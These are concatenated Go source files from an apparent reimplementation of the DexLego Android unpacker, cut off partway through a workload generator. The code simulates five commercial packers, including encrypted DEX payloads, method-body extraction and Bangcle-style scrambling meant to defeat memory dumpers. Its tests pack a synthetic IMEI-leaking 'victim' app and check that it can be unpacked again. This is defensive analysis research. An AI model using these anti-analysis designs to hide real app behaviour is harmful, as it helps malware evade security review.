	placed, err := bytecode.DecodeAll(code.Insns)
	if err != nil {
		return nil
	}
	idxOf := make(map[int]int, len(placed))
	for i, p := range placed {
		idxOf[p.PC] = i
	}
	visited := map[int]int{0: 0}
	order := []pathStep{{pc: 0, branchPC: -1, prev: -1}}
	for qi := 0; qi < len(order); qi++ {
		cur := order[qi]
		ci, ok := idxOf[cur.pc]
		if !ok {
			continue
		}
		in := placed[ci].Inst
		push := func(pc int, branchPC int, taken bool) {
			if _, seen := visited[pc]; seen {
				return
			}
			visited[pc] = len(order)
			order = append(order, pathStep{pc: pc, branchPC: branchPC, taken: taken, prev: qi})
		}
		switch {
		case in.Op.IsBranch():
			push(cur.pc+in.Width(), cur.pc, false)
			push(cur.pc+int(in.Off), cur.pc, true)
		case in.Op.IsGoto():
			push(cur.pc+int(in.Off), -1, false)
		case in.Op.IsSwitch():
			push(cur.pc+in.Width(), -1, false)
			for _, t := range in.Targets {
				push(cur.pc+int(t), -1, false)
			}
		case in.Op.IsTerminator():
		default:
			push(cur.pc+in.Width(), -1, false)
		}
	}
	return &methodPaths{visited: visited, order: order}
}

// buildCodeIndex maps method keys to their bodies, replacing what used to
// be a linear scan over every class per lookup. First occurrence wins,
// matching the scan order it replaces.
func buildCodeIndex(files []*dex.File) map[string]*dex.Code {
	idx := make(map[string]*dex.Code)
	for _, f := range files {
		for ci := range f.Classes {
			cd := &f.Classes[ci]
			for _, list := range [][]dex.EncodedMethod{cd.DirectMeths, cd.VirtualMeths} {
				for mi := range list {
					key := f.MethodAt(list[mi].Method).Key()
					if _, ok := idx[key]; !ok {
						idx[key] = list[mi].Code
					}
				}
			}
		}
	}
	return idx
}

// WritePathFiles saves the computed paths, one JSON file per UCB, matching
// the paper's description of path files feeding the next iteration.
func WritePathFiles(dir string, paths []PathFile) error {
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return fmt.Errorf("forceexec: %w", err)
	}
	for i, p := range paths {
		data, err := json.MarshalIndent(p, "", " ")
		if err != nil {
			return fmt.Errorf("forceexec: marshal path: %w", err)
		}
		name := filepath.Join(dir, fmt.Sprintf("path_%04d.json", i))
		if err := os.WriteFile(name, data, 0o644); err != nil {
			return fmt.Errorf("forceexec: %w", err)
		}
	}
	return nil
}
