package packer_test

import (
	"bytes"
	"errors"
	"testing"

	"dexlego/internal/apimodel"
	"dexlego/internal/apk"
	"dexlego/internal/art"
	"dexlego/internal/collector"
	"dexlego/internal/dex"
	"dexlego/internal/dexgen"
	"dexlego/internal/packer"
	"dexlego/internal/reassembler"
)

func buildLeakAPK(t *testing.T) *apk.APK {
	t.Helper()
	p := dexgen.New()
	main := p.Class("Lvictim/Main;", "Landroid/app/Activity;")
	main.StaticString("SECRET_TAG", "victim-marker-string")
	main.Ctor("Landroid/app/Activity;", nil)
	main.Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
		a.GetIMEI(0, 1)
		a.LogLeak("victim", 0, 2)
		a.ReturnVoid()
	})
	main.Virtual("helper", "I", []string{"I"}, func(a *dexgen.Asm) {
		a.BinopLit8(0x0da /* mul-int/lit8 */, 0, a.P(0), 3)
		a.Return(0)
	})
	pkg, err := p.BuildAPK("victim", "1.0", "Lvictim/Main;")
	if err != nil {
		t.Fatal(err)
	}
	return pkg
}

func TestAllPackersRoundTrip(t *testing.T) {
	for _, pk := range packer.All() {
		t.Run(pk.Name(), func(t *testing.T) {
			orig := buildLeakAPK(t)
			packed, err := pk.Pack(orig)
			if err != nil {
				t.Fatal(err)
			}
			// The shell DEX must hide the original code: the marker string
			// must not appear in cleartext in classes.dex.
			shellDex, err := packed.Dex()
			if err != nil {
				t.Fatal(err)
			}
			if pk.Name() != "Tencent" && pk.Name() != "Bangcle" {
				if bytes.Contains(shellDex, []byte("victim-marker-string")) {
					t.Error("original string visible in packed classes.dex")
				}
				if f, err := dex.Read(shellDex); err == nil && f.FindClass("Lvictim/Main;") != nil {
					t.Error("original class visible in packed classes.dex")
				}
			} else {
				// Method extraction keeps the class structure in a stripped
				// DEX asset, but every body must be a stub.
				asset := map[string]string{
					"Tencent": "legu.dex",
					"Bangcle": "bangcle.dex",
				}[pk.Name()]
				stripped, ok := packed.Asset(asset)
				if !ok {
					t.Fatalf("missing stripped dex asset %s", asset)
				}
				f, err := dex.Read(stripped)
				if err != nil {
					t.Fatal(err)
				}
				em := f.FindMethod("Lvictim/Main;", "onCreate", "")
				if em == nil {
					t.Fatal("method-extraction shell lost the class structure")
				}
				if len(em.Code.Insns) > 2 {
					t.Errorf("method body not stripped: %d units", len(em.Code.Insns))
				}
			}
			// Running the packed app must reproduce the original behavior.
			rt := art.NewRuntime(art.DefaultPhone())
			pk.InstallNatives(rt)
			if err := rt.LoadAPK(packed); err != nil {
				t.Fatal(err)
			}
			if _, err := rt.LaunchActivity(); err != nil {
				t.Fatal(err)
			}
			sinks := rt.Sinks()
			if len(sinks) != 1 || !sinks[0].Taint.Has(apimodel.TaintIMEI) {
				t.Fatalf("packed app sinks = %+v", sinks)
			}
		})
	}
}

func TestDexLegoRevealsAllPackers(t *testing.T) {
	for _, pk := range packer.All() {
		t.Run(pk.Name(), func(t *testing.T) {
			orig := buildLeakAPK(t)
			packed, err := pk.Pack(orig)
			if err != nil {
				t.Fatal(err)
			}
			rt := art.NewRuntime(art.DefaultPhone())
			pk.InstallNatives(rt)
			col := collector.New()
			rt.AddHooks(col.Hooks())
			if err := rt.LoadAPK(packed); err != nil {
				t.Fatal(err)
			}
			if _, err := rt.LaunchActivity(); err != nil {
				t.Fatal(err)
			}
			revealed, _, err := reassembler.ReassembleAPK(packed, col.Result())
			if err != nil {
				t.Fatal(err)
			}
			data, err := revealed.Dex()
			if err != nil {
				t.Fatal(err)
			}
			f, err := dex.Read(data)
			if err != nil {
				t.Fatal(err)
			}
			// The revealed DEX must contain the original activity with its
			// leak visible as plain bytecode.
			if f.FindClass("Lvictim/Main;") == nil {
				t.Fatal("revealed dex lacks the unpacked original class")
			}
			em := f.FindMethod("Lvictim/Main;", "onCreate", "(Landroid/os/Bundle;)V")
			if em == nil || em.Code == nil || len(em.Code.Insns) < 6 {
				t.Fatal("revealed onCreate has no real body")
			}
			// And it must still execute with the same observable behavior.
			rt2 := art.NewRuntime(art.DefaultPhone())
			if err := rt2.LoadAPK(revealed); err != nil {
				t.Fatal(err)
			}
			act, err := rt2.FindClass("Lvictim/Main;")
			if err != nil {
				t.Fatal(err)
			}
			obj := rt2.NewInstance(act)
			if _, err := rt2.Call("Lvictim/Main;", "onCreate", "(Landroid/os/Bundle;)V",
				obj, []art.Value{art.NullVal()}); err != nil {
				t.Fatal(err)
			}
			if sinks := rt2.Sinks(); len(sinks) != 1 || !sinks[0].Taint.Has(apimodel.TaintIMEI) {
				t.Fatalf("revealed app sinks = %+v", sinks)
			}
		})
	}
}

func TestBangcleScramblesAfterExecution(t *testing.T) {
	orig := buildLeakAPK(t)
	pk, err := packer.ByName("Bangcle")
	if err != nil {
		t.Fatal(err)
	}
	packed, err := pk.Pack(orig)
	if err != nil {
		t.Fatal(err)
	}
	rt := art.NewRuntime(art.DefaultPhone())
	pk.InstallNatives(rt)
	if err := rt.LoadAPK(packed); err != nil {
		t.Fatal(err)
	}
	if _, err := rt.LaunchActivity(); err != nil {
		t.Fatal(err)
	}
	// After execution finished, a memory dump (the live method bodies) must
	// see only stubs — this is what defeats "right timing" dumpers.
	c, err := rt.FindClass("Lvictim/Main;")
	if err != nil {
		t.Fatal(err)
	}
	m := c.FindMethod("onCreate", "(Landroid/os/Bundle;)V")
	if m == nil {
		t.Fatal("onCreate missing")
	}
	if len(m.Insns) > 2 {
		t.Errorf("bangcle left %d units in memory after exit; dump would win", len(m.Insns))
	}
}

func TestBaiduIntegrityCheck(t *testing.T) {
	orig := buildLeakAPK(t)
	pk, err := packer.ByName("Baidu")
	if err != nil {
		t.Fatal(err)
	}
	packed, err := pk.Pack(orig)
	if err != nil {
		t.Fatal(err)
	}
	// Corrupt the payload.
	enc, _ := packed.Asset("baidu.pay")
	enc[0] ^= 0xff
	packed.AddAsset("baidu.pay", enc)
	rt := art.NewRuntime(art.DefaultPhone())
	pk.InstallNatives(rt)
	if err := rt.LoadAPK(packed); err != nil {
		t.Fatal(err)
	}
	if _, err := rt.LaunchActivity(); err == nil {
		t.Error("tampered payload must fail the integrity check")
	}
}

func TestUnavailableServices(t *testing.T) {
	svcs := packer.UnavailableServices()
	if len(svcs) != 3 {
		t.Fatalf("got %d unavailable services, want 3", len(svcs))
	}
	for name, wantErr := range map[string]error{
		"NetQin":     packer.ErrServiceOffline,
		"APKProtect": packer.ErrUnresponsive,
		"Ijiami":     packer.ErrRejected,
	} {
		if _, err := packer.ByName(name); !errors.Is(err, wantErr) {
			t.Errorf("ByName(%s) = %v, want %v", name, err, wantErr)
		}
	}
	if _, err := packer.ByName("NoSuchPacker"); err == nil {
		t.Error("unknown packer must error")
	}
	if len(packer.All()) != 5 {
		t.Errorf("operational packers = %d, want 5", len(packer.All()))
	}
}
