// Package packer implements the commercial Android packing services of the
// paper's Table I as five working packers with distinct protection
// strategies, plus the three services that were unavailable to the authors.
//
// Every packer replaces classes.dex with a shell DEX whose loader activity
// calls into "native" shell code (Go functions registered as JNI stand-ins)
// that releases the original code at runtime:
//
//   - Qihoo360: whole-DEX AES-CTR, key hidden in libjiagu.so
//   - Alibaba:  whole-DEX XOR keystream split across two assets
//   - Tencent:  method extraction — bodies stripped from the shell DEX and
//     restored one method at a time on first invocation
//   - Baidu:    whole-DEX AES-CTR plus payload integrity verification
//   - Bangcle:  interleaved protection —each method body is restored on entry
//     and scrambled again on exit, so no dump instant has all code
//
// (Bangcle's enter/exit juggling is what defeats "right timing" dump-based
// unpackers; instruction-level collection is immune because it observes
// instructions while they execute.)
package packer

import (
	"crypto/aes"
	"crypto/cipher"
	"crypto/sha256"
	"encoding/json"
	"errors"
	"fmt"

	"dexlego/internal/apk"
	"dexlego/internal/art"
	"dexlego/internal/dex"
	"dexlego/internal/dexgen"
)

// Packer is one packing service.
type Packer interface {
	// Name returns the marketing name used in Table I.
	Name() string
	// Pack wraps the application in the packer's shell.
	Pack(pkg *apk.APK) (*apk.APK, error)
	// InstallNatives registers the shell's native code with a runtime that
	// will execute packed output (the libshell.so stand-in).
	InstallNatives(rt *art.Runtime)
}

// Unavailability errors reproducing Table I's last three rows.
var (
	ErrServiceOffline = errors.New("packer: NetQin: the service is offline now")
	ErrUnresponsive   = errors.New("packer: APKProtect: unresponsive to packing requests")
	ErrRejected       = errors.New("packer: Ijiami: samples are rejected by human agents")
)

// All returns the five operational packers.
func All() []Packer {
	return []Packer{
		NewQihoo360(),
		NewAlibaba(),
		NewTencent(),
		NewBaidu(),
		NewBangcle(),
	}
}

// UnavailableServices returns the three services that cannot pack, with the
// error each produces.
func UnavailableServices() map[string]error {
	return map[string]error{
		"NetQin":     ErrServiceOffline,
		"APKProtect": ErrUnresponsive,
		"Ijiami":     ErrRejected,
	}
}

// ByName resolves a packer by its Table I name.
func ByName(name string) (Packer, error) {
	for _, p := range All() {
		if p.Name() == name {
			return p, nil
		}
	}
	if err, ok := UnavailableServices()[name]; ok {
		return nil, err
	}
	return nil, fmt.Errorf("packer: unknown packer %q", name)
}

// shellMeta is the loader metadata stored alongside the payload.
type shellMeta struct {
	OriginalMain string `json:"originalMain"`
	Checksum     string `json:"checksum,omitempty"`
}

// buildShell generates a shell DEX with a loader activity that calls the
// packer's native unpack entry point.
func buildShell(prefix string) ([]byte, string, error) {
	loader := "L" + prefix + "/Loader;"
	p := dexgen.New()
	cls := p.Class(loader, "Landroid/app/Activity;")
	cls.Ctor("Landroid/app/Activity;", nil)
	cls.Native("unpackAndLaunch", "V")
	cls.Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
		a.InvokeStatic(loader, "unpackAndLaunch", "()V")
		a.ReturnVoid()
	})
	data, err := p.Bytes()
	if err != nil {
		return nil, "", err
	}
	return data, loader, nil
}

// launchOriginal hands control to the original main activity after the
// payload classes are defined: the runtime continues the launch with the
// full lifecycle once the shell's onCreate returns.
func launchOriginal(env *art.Env, mainDesc string) error {
	if _, err := env.FindClass(mainDesc); err != nil {
		return err
	}
	env.RedirectLaunch(mainDesc)
	return nil
}

func readMeta(env *art.Env, asset string) (shellMeta, error) {
	var meta shellMeta
	data, ok := env.Asset(asset)
	if !ok {
		return meta, fmt.Errorf("packer: missing meta asset %s", asset)
	}
	if err := json.Unmarshal(data, &meta); err != nil {
		return meta, fmt.Errorf("packer: corrupt meta: %w", err)
	}
	return meta, nil
}

func aesCTR(key, data []byte) ([]byte, error) {
	block, err := aes.NewCipher(key)
	if err != nil {
		return nil, err
	}
	iv := make([]byte, aes.BlockSize) // deterministic IV: packing is a build step
	out := make([]byte, len(data))
	cipher.NewCTR(block, iv).XORKeyStream(out, data)
	return out, nil
}

func deriveKey(seed string) []byte {
	sum := sha256.Sum256([]byte(seed))
	return sum[:16]
}

func xorStream(key, data []byte) []byte {
	out := make([]byte, len(data))
	for i, b := range data {
		out[i] = b ^ key[i%len(key)]
	}
	return out
}

// codeRecord serializes one extracted method body (Tencent, Bangcle).
type codeRecord struct {
	Registers int       `json:"registers"`
	Ins       int       `json:"ins"`
	Insns     []uint16  `json:"insns"`
	Tries     []dex.Try `json:"tries,omitempty"`
}

// extractBodies strips every method body from the file, replacing it with a
// default-return stub, and returns the extracted bodies keyed by method key.
func extractBodies(f *dex.File) map[string]codeRecord {
	out := make(map[string]codeRecord)
	for ci := range f.Classes {
		cd := &f.Classes[ci]
		for _, list := range [][]dex.EncodedMethod{cd.DirectMeths, cd.VirtualMeths} {
			for mi := range list {
				em := &list[mi]
				if em.Code == nil {
					continue
				}
				ref := f.MethodAt(em.Method)
				out[ref.Key()] = codeRecord{
					Registers: int(em.Code.RegistersSize),
					Ins:       int(em.Code.InsSize),
					Insns:     append([]uint16(nil), em.Code.Insns...),
					Tries:     em.Code.Tries,
				}
				em.Code = stubCode(em.Code, ref.Signature)
			}
		}
	}
	return out
}

func stubCode(orig *dex.Code, signature string) *dex.Code {
	_, ret, err := dex.ParseSignature(signature)
	insns := []uint16{0x000e} // return-void
	if err == nil && ret != "V" {
		op := uint16(0x0f) // return
		if ret[0] == 'L' || ret[0] == '[' {
			op = 0x11 // return-object
		}
		insns = []uint16{0x0012, op} // const/4 v0, 0 ; return v0
	}
	return &dex.Code{
		RegistersSize: orig.RegistersSize,
		InsSize:       orig.InsSize,
		Insns:         insns,
	}
}
