package packer

import (
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"

	"dexlego/internal/apk"
	"dexlego/internal/art"
	"dexlego/internal/dex"
)

// --- Qihoo 360 --------------------------------------------------------------

type qihoo360 struct{}

// NewQihoo360 returns the 360 packer: whole-DEX AES-CTR with the key hidden
// inside libjiagu.so.
func NewQihoo360() Packer { return qihoo360{} }

func (qihoo360) Name() string { return "360" }

func (qihoo360) Pack(pkg *apk.APK) (*apk.APK, error) {
	orig, err := pkg.Dex()
	if err != nil {
		return nil, err
	}
	key := deriveKey("jiagu:" + pkg.Manifest.Package)
	enc, err := aesCTR(key, orig)
	if err != nil {
		return nil, err
	}
	shell, loader, err := buildShell("com/qihoo/shell")
	if err != nil {
		return nil, err
	}
	out := pkg.Clone()
	out.SetDex(shell)
	out.Manifest.MainActivity = loader
	out.AddAsset("360.pay", enc)
	meta, err := json.Marshal(shellMeta{OriginalMain: pkg.Manifest.MainActivity})
	if err != nil {
		return nil, err
	}
	out.AddAsset("360.meta", meta)
	out.AddNativeLib("libjiagu.so", key)
	return out, nil
}

func (qihoo360) InstallNatives(rt *art.Runtime) {
	rt.RegisterNative("Lcom/qihoo/shell/Loader;->unpackAndLaunch()V",
		func(env *art.Env, recv *art.Object, args []art.Value) (art.Value, error) {
			key, ok := env.NativeLib("libjiagu.so")
			if !ok {
				return art.Value{}, env.Throw("Ljava/lang/RuntimeException;", "libjiagu missing")
			}
			enc, ok := env.Asset("360.pay")
			if !ok {
				return art.Value{}, env.Throw("Ljava/lang/RuntimeException;", "payload missing")
			}
			plain, err := aesCTR(key, enc)
			if err != nil {
				return art.Value{}, err
			}
			if _, err := env.DefineDex(plain); err != nil {
				return art.Value{}, err
			}
			meta, err := readMeta(env, "360.meta")
			if err != nil {
				return art.Value{}, err
			}
			return art.Value{}, launchOriginal(env, meta.OriginalMain)
		})
}

// --- Alibaba -----------------------------------------------------------------

type alibaba struct{}

// NewAlibaba returns the Ali packer: XOR keystream with the payload split
// across two assets.
func NewAlibaba() Packer { return alibaba{} }

func (alibaba) Name() string { return "Alibaba" }

func (alibaba) Pack(pkg *apk.APK) (*apk.APK, error) {
	orig, err := pkg.Dex()
	if err != nil {
		return nil, err
	}
	key := deriveKey("aliprotector:" + pkg.Manifest.Package)
	enc := xorStream(key, orig)
	half := len(enc) / 2
	shell, loader, err := buildShell("com/ali/mobisec")
	if err != nil {
		return nil, err
	}
	out := pkg.Clone()
	out.SetDex(shell)
	out.Manifest.MainActivity = loader
	out.AddAsset("ali.part0", enc[:half])
	out.AddAsset("ali.part1", enc[half:])
	meta, err := json.Marshal(shellMeta{OriginalMain: pkg.Manifest.MainActivity})
	if err != nil {
		return nil, err
	}
	out.AddAsset("ali.meta", meta)
	out.AddNativeLib("libmobisec.so", key)
	return out, nil
}

func (alibaba) InstallNatives(rt *art.Runtime) {
	rt.RegisterNative("Lcom/ali/mobisec/Loader;->unpackAndLaunch()V",
		func(env *art.Env, recv *art.Object, args []art.Value) (art.Value, error) {
			key, ok := env.NativeLib("libmobisec.so")
			if !ok {
				return art.Value{}, env.Throw("Ljava/lang/RuntimeException;", "libmobisec missing")
			}
			p0, ok0 := env.Asset("ali.part0")
			p1, ok1 := env.Asset("ali.part1")
			if !ok0 || !ok1 {
				return art.Value{}, env.Throw("Ljava/lang/RuntimeException;", "payload missing")
			}
			plain := xorStream(key, append(append([]byte(nil), p0...), p1...))
			if _, err := env.DefineDex(plain); err != nil {
				return art.Value{}, err
			}
			meta, err := readMeta(env, "ali.meta")
			if err != nil {
				return art.Value{}, err
			}
			return art.Value{}, launchOriginal(env, meta.OriginalMain)
		})
}

// --- Tencent ------------------------------------------------------------------

type tencent struct{}

// NewTencent returns the Legu packer: method extraction. The shell DEX keeps
// the original class structure but every method body is a stub; real bodies
// live encrypted in an asset and are restored on first invocation.
func NewTencent() Packer { return tencent{} }

func (tencent) Name() string { return "Tencent" }

func (tencent) Pack(pkg *apk.APK) (*apk.APK, error) {
	orig, err := pkg.Dex()
	if err != nil {
		return nil, err
	}
	f, err := dex.Read(orig)
	if err != nil {
		return nil, fmt.Errorf("packer: tencent: %w", err)
	}
	bodies := extractBodies(f)
	stripped, err := f.Write()
	if err != nil {
		return nil, err
	}
	blob, err := json.Marshal(bodies)
	if err != nil {
		return nil, err
	}
	key := deriveKey("legu:" + pkg.Manifest.Package)
	enc, err := aesCTR(key, blob)
	if err != nil {
		return nil, err
	}
	shell, loader, err := buildShell("com/tencent/legu")
	if err != nil {
		return nil, err
	}
	out := pkg.Clone()
	out.SetDex(shell)
	out.Manifest.MainActivity = loader
	out.AddAsset("legu.dex", stripped)
	out.AddAsset("legu.bodies", enc)
	meta, err := json.Marshal(shellMeta{OriginalMain: pkg.Manifest.MainActivity})
	if err != nil {
		return nil, err
	}
	out.AddAsset("legu.meta", meta)
	out.AddNativeLib("liblegu.so", key)
	return out, nil
}

func (tencent) InstallNatives(rt *art.Runtime) {
	rt.RegisterNative("Lcom/tencent/legu/Loader;->unpackAndLaunch()V",
		func(env *art.Env, recv *art.Object, args []art.Value) (art.Value, error) {
			bodies, err := loadBodies(env, "liblegu.so", "legu.bodies")
			if err != nil {
				return art.Value{}, err
			}
			stripped, ok := env.Asset("legu.dex")
			if !ok {
				return art.Value{}, env.Throw("Ljava/lang/RuntimeException;", "stripped dex missing")
			}
			// Restore each method body the first time ART invokes it — but
			// only for classes this shell actually defined: body indices are
			// relative to the stripped DEX's constant pool.
			owned := make(map[*art.Class]bool)
			restored := make(map[*art.Method]bool)
			env.Runtime().RegisterMethodHooks(func(m *art.Method) {
				if restored[m] || m.Insns == nil || !owned[m.Class] {
					return
				}
				if rec, ok := bodies[m.Key()]; ok {
					m.Insns = append([]uint16(nil), rec.Insns...)
					m.RegistersSize = rec.Registers
					m.InsSize = rec.Ins
					m.Tries = rec.Tries
				}
				restored[m] = true
			}, nil)
			defined, err := env.DefineDex(stripped)
			if err != nil {
				return art.Value{}, err
			}
			for _, c := range defined {
				owned[c] = true
			}
			meta, err := readMeta(env, "legu.meta")
			if err != nil {
				return art.Value{}, err
			}
			return art.Value{}, launchOriginal(env, meta.OriginalMain)
		})
}

func loadBodies(env *art.Env, lib, asset string) (map[string]codeRecord, error) {
	key, ok := env.NativeLib(lib)
	if !ok {
		return nil, env.Throw("Ljava/lang/RuntimeException;", lib+" missing")
	}
	enc, ok := env.Asset(asset)
	if !ok {
		return nil, env.Throw("Ljava/lang/RuntimeException;", asset+" missing")
	}
	blob, err := aesCTR(key, enc)
	if err != nil {
		return nil, err
	}
	var bodies map[string]codeRecord
	if err := json.Unmarshal(blob, &bodies); err != nil {
		return nil, fmt.Errorf("packer: corrupt method bodies: %w", err)
	}
	return bodies, nil
}

// --- Baidu ---------------------------------------------------------------------

type baidu struct{}

// NewBaidu returns the Baidu packer: whole-DEX AES-CTR with payload
// integrity verification before release.
func NewBaidu() Packer { return baidu{} }

func (baidu) Name() string { return "Baidu" }

func (baidu) Pack(pkg *apk.APK) (*apk.APK, error) {
	orig, err := pkg.Dex()
	if err != nil {
		return nil, err
	}
	key := deriveKey("baidujiagu:" + pkg.Manifest.Package)
	enc, err := aesCTR(key, orig)
	if err != nil {
		return nil, err
	}
	sum := sha256.Sum256(enc)
	shell, loader, err := buildShell("com/baidu/protect")
	if err != nil {
		return nil, err
	}
	out := pkg.Clone()
	out.SetDex(shell)
	out.Manifest.MainActivity = loader
	out.AddAsset("baidu.pay", enc)
	meta, err := json.Marshal(shellMeta{
		OriginalMain: pkg.Manifest.MainActivity,
		Checksum:     hex.EncodeToString(sum[:]),
	})
	if err != nil {
		return nil, err
	}
	out.AddAsset("baidu.meta", meta)
	out.AddNativeLib("libbaiduprotect.so", key)
	return out, nil
}

func (baidu) InstallNatives(rt *art.Runtime) {
	rt.RegisterNative("Lcom/baidu/protect/Loader;->unpackAndLaunch()V",
		func(env *art.Env, recv *art.Object, args []art.Value) (art.Value, error) {
			key, ok := env.NativeLib("libbaiduprotect.so")
			if !ok {
				return art.Value{}, env.Throw("Ljava/lang/RuntimeException;", "libbaiduprotect missing")
			}
			enc, ok := env.Asset("baidu.pay")
			if !ok {
				return art.Value{}, env.Throw("Ljava/lang/RuntimeException;", "payload missing")
			}
			meta, err := readMeta(env, "baidu.meta")
			if err != nil {
				return art.Value{}, err
			}
			sum := sha256.Sum256(enc)
			if hex.EncodeToString(sum[:]) != meta.Checksum {
				return art.Value{}, env.Throw("Ljava/lang/RuntimeException;",
					"payload integrity check failed")
			}
			plain, err := aesCTR(key, enc)
			if err != nil {
				return art.Value{}, err
			}
			if _, err := env.DefineDex(plain); err != nil {
				return art.Value{}, err
			}
			return art.Value{}, launchOriginal(env, meta.OriginalMain)
		})
}

// --- Bangcle ---------------------------------------------------------------------

type bangcle struct{}

// NewBangcle returns the Bangcle packer: interleaved protection. Bodies are
// restored on method entry and scrambled back on exit (reference counted for
// recursion), so no single memory snapshot contains the whole program.
func NewBangcle() Packer { return bangcle{} }

func (bangcle) Name() string { return "Bangcle" }

func (bangcle) Pack(pkg *apk.APK) (*apk.APK, error) {
	orig, err := pkg.Dex()
	if err != nil {
		return nil, err
	}
	f, err := dex.Read(orig)
	if err != nil {
		return nil, fmt.Errorf("packer: bangcle: %w", err)
	}
	bodies := extractBodies(f)
	stripped, err := f.Write()
	if err != nil {
		return nil, err
	}
	blob, err := json.Marshal(bodies)
	if err != nil {
		return nil, err
	}
	key := deriveKey("bangcle:" + pkg.Manifest.Package)
	enc, err := aesCTR(key, blob)
	if err != nil {
		return nil, err
	}
	shell, loader, err := buildShell("com/bangcle/shield")
	if err != nil {
		return nil, err
	}
	out := pkg.Clone()
	out.SetDex(shell)
	out.Manifest.MainActivity = loader
	out.AddAsset("bangcle.dex", stripped)
	out.AddAsset("bangcle.bodies", enc)
	meta, err := json.Marshal(shellMeta{OriginalMain: pkg.Manifest.MainActivity})
	if err != nil {
		return nil, err
	}
	out.AddAsset("bangcle.meta", meta)
	out.AddNativeLib("libsecexe.so", key)
	return out, nil
}

func (bangcle) InstallNatives(rt *art.Runtime) {
	rt.RegisterNative("Lcom/bangcle/shield/Loader;->unpackAndLaunch()V",
		func(env *art.Env, recv *art.Object, args []art.Value) (art.Value, error) {
			bodies, err := loadBodies(env, "libsecexe.so", "bangcle.bodies")
			if err != nil {
				return art.Value{}, err
			}
			stripped, ok := env.Asset("bangcle.dex")
			if !ok {
				return art.Value{}, env.Throw("Ljava/lang/RuntimeException;", "stripped dex missing")
			}
			// Interleaved protection: decrypt on entry, scramble on exit,
			// reference-counted so recursive frames stay valid. Only classes
			// this shell defined participate (body indices are relative to
			// the stripped DEX).
			owned := make(map[*art.Class]bool)
			depth := make(map[*art.Method]int)
			stubs := make(map[*art.Method][]uint16)
			env.Runtime().RegisterMethodHooks(
				func(m *art.Method) {
					if !owned[m.Class] {
						return
					}
					rec, ok := bodies[m.Key()]
					if !ok || m.Insns == nil {
						return
					}
					if depth[m] == 0 {
						if _, saved := stubs[m]; !saved {
							stubs[m] = append([]uint16(nil), m.Insns...)
						}
						m.Insns = append([]uint16(nil), rec.Insns...)
						m.RegistersSize = rec.Registers
						m.InsSize = rec.Ins
						m.Tries = rec.Tries
					}
					depth[m]++
				},
				func(m *art.Method) {
					if !owned[m.Class] {
						return
					}
					if _, ok := bodies[m.Key()]; !ok || m.Insns == nil {
						return
					}
					if depth[m] > 0 {
						depth[m]--
					}
					if depth[m] == 0 {
						// Scramble: put the stub back so dumps see nothing.
						m.Insns = append([]uint16(nil), stubs[m]...)
					}
				})
			defined, err := env.DefineDex(stripped)
			if err != nil {
				return art.Value{}, err
			}
			for _, c := range defined {
				owned[c] = true
			}
			meta, err := readMeta(env, "bangcle.meta")
			if err != nil {
				return art.Value{}, err
			}
			return art.Value{}, launchOriginal(env, meta.OriginalMain)
		})
}
