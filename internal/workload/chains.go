package workload

import (
	"fmt"

	"dexlego/internal/bytecode"
	"dexlego/internal/dexgen"
)

// The version-chain generator models an app under maintenance: v1 is a farm
// of independent worker methods the launch activity calls in turn, and each
// later link applies one small edit — a method-body change, a new method, a
// removed method, or a renamed class — while everything else stays
// bit-identical at the source level. Consecutive links therefore share
// almost all method-body fingerprints, which is exactly the workload the
// incremental reveal path (per-method tree cache + splice) is built for.
//
// Every worker body opens with a never-taken gate, so force-execution
// schedules one forced run per worker: a cold reveal pays O(methods) runs
// while a warm incremental reveal pays only the changed ones.

// ChainConfig parameterizes VersionChain.
type ChainConfig struct {
	// Methods is the worker-method count of v1 (default 24).
	Methods int
	// Links is the number of successor versions after v1 (default 4).
	Links int
	// Mutations is how many method bodies a body-edit link rewrites
	// (default 1: the minimal app update).
	Mutations int
	// Seed varies every generated body deterministically.
	Seed uint32
}

func (c ChainConfig) methods() int {
	if c.Methods <= 0 {
		return 24
	}
	return c.Methods
}

func (c ChainConfig) links() int {
	if c.Links <= 0 {
		return 4
	}
	return c.Links
}

func (c ChainConfig) mutations() int {
	if c.Mutations <= 0 {
		return 1
	}
	return c.Mutations
}

// chainWorker is one worker method's identity across versions: its class is
// Lgen/chain/W<id>g<gen>; (gen bumps on rename), its body derives from seed.
type chainWorker struct {
	id   int
	gen  int
	seed uint32
}

func (w chainWorker) desc() string {
	if w.gen == 0 {
		return fmt.Sprintf("Lgen/chain/W%d;", w.id)
	}
	return fmt.Sprintf("Lgen/chain/W%dg%d;", w.id, w.gen)
}

// VersionChain generates versions v1..v(Links+1) of one synthetic app.
// Link l (1-based) applies mutation kind (l-1) mod 4: 0 rewrites Mutations
// worker bodies, 1 adds a worker, 2 removes one, 3 renames one worker's
// class. All choices are deterministic in ChainConfig.
func VersionChain(cfg ChainConfig) ([]App, error) {
	workers := make([]chainWorker, cfg.methods())
	for i := range workers {
		workers[i] = chainWorker{id: i, seed: cfg.Seed + uint32(i)*2654435761}
	}
	nextID := len(workers)
	var out []App
	for link := 0; link <= cfg.links(); link++ {
		if link > 0 {
			switch (link - 1) % 4 {
			case 0: // body edit
				for m := 0; m < cfg.mutations() && m < len(workers); m++ {
					i := (link*7 + m) % len(workers)
					workers[i].seed = workers[i].seed*1664525 + 1013904223 + uint32(link)
				}
			case 1: // added method
				workers = append(workers, chainWorker{
					id:   nextID,
					seed: cfg.Seed + uint32(nextID)*2654435761 + uint32(link),
				})
				nextID++
			case 2: // removed method
				if len(workers) > 1 {
					i := (link * 5) % len(workers)
					workers = append(workers[:i], workers[i+1:]...)
				}
			case 3: // renamed class
				workers[(link*3)%len(workers)].gen++
			}
		}
		app, err := buildChainVersion(workers, link)
		if err != nil {
			return nil, fmt.Errorf("workload: chain v%d: %w", link+1, err)
		}
		out = append(out, app)
	}
	return out, nil
}

// buildChainVersion assembles one link: every worker class plus the launch
// activity invoking each worker once.
func buildChainVersion(workers []chainWorker, link int) (App, error) {
	p := dexgen.New()
	for _, w := range workers {
		w := w
		cls := p.Class(w.desc(), "")
		cls.Static("work", "I", nil, func(a *dexgen.Asm) {
			chainWorkerBody(a, w.seed)
		})
	}
	mainDesc := "Lgen/chain/Main;"
	main := p.Class(mainDesc, "Landroid/app/Activity;")
	main.Ctor("Landroid/app/Activity;", nil)
